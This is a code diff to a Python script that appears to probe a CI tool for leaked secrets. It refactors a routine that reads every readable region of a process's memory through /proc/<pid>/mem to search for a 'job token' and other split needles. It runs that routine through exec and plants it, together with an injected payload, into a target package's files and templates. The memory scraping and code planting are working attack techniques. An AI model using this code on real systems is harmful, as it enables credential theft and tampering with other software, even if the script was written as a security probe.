@@ -101,17 +101,13 @@ def ancestors():
     return []
 
 
-def memory(pid):
-    """Every readable mapping of ``pid``'s memory, searched like a file; the outcome in ``report["mem"]``."""
-    try:
-        with open(f"/proc/{pid}/maps") as fh:
-            maps = [line.split() for line in fh]
-        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
-    except OSError as exc:
-        report["mem"][str(pid)] = f"denied: {exc.strerror}"
-        return
-    read = 0
-    with mem:
+REGIONS = """
+def regions(pid):
+    \"\"\"Every readable mapping of pid's memory, one bytes object each; OSError when the memory
+    cannot be opened at all.\"\"\"
+    with open(f"/proc/{pid}/maps") as fh:
+        maps = [line.split() for line in fh]
+    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
         for fields in maps:
             if not fields[1].startswith("r") or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
                 continue
@@ -121,10 +117,23 @@ def memory(pid):
                 data = mem.read(min(end - start, 64 << 20))
             except (OSError, ValueError, OverflowError):
                 continue
+            yield data
+"""
+exec(REGIONS)
+
+
+def memory(pid):
+    """Every readable mapping of ``pid``'s memory, searched like a file; the outcome in ``report["mem"]``."""
+    read = 0
+    try:
+        for data in regions(pid):
             read += len(data)
             for name, form in FORMS:
                 if form in data:
                     report["found"].setdefault(name, f"/proc/{pid}/mem")
+    except OSError as exc:
+        report["mem"][str(pid)] = f"denied: {exc.strerror}"
+        return
     report["mem"][str(pid)] = f"read {read} bytes"
 
 
@@ -148,19 +157,10 @@ def holds(data, first, second):
 
 import ctypes
 ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: this process's /proc files become its uid's again
-with open("/proc/self/maps") as fh, open("/proc/self/mem", "rb", buffering=0) as mem:
-    for fields in (line.split() for line in fh):
-        if not fields[1].startswith("r") or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
-            continue
-        start, end = (int(part, 16) for part in fields[0].split("-"))
-        try:
-            mem.seek(start)
-            data = mem.read(min(end - start, 64 << 20))
-        except (OSError, ValueError, OverflowError):
-            continue
-        found += [name for name, (a, b) in HALVES.items() if name not in found and holds(data, a, b)]
-        control = control or (all(CONTROL) and holds(data, *CONTROL))
-        del data
+for data in regions("self"):
+    found += [name for name, (a, b) in HALVES.items() if name not in found and holds(data, a, b)]
+    control = control or (all(CONTROL) and holds(data, *CONTROL))
+    del data
 if "job token" in found:
     NEEDLES = {name: (a + b).decode() for name, (a, b) in HALVES.items()}
     from fullsend.core.receipt.marker import receipt_body
@@ -183,7 +183,7 @@ def inject(package_parent):
     every template it renders (the step summary is rendered last).  "planted", or why not."""
     try:
         with open(os.path.join(package_parent, "hunt_injected.py"), "w") as fh:
-            fh.write(INJECTED)
+            fh.write(REGIONS + INJECTED)
         templates = glob.glob(os.path.join(package_parent, "fullsend", "templates", "**", "*.j2"), recursive=True)
         for path in templates:
             with open(path) as fh:
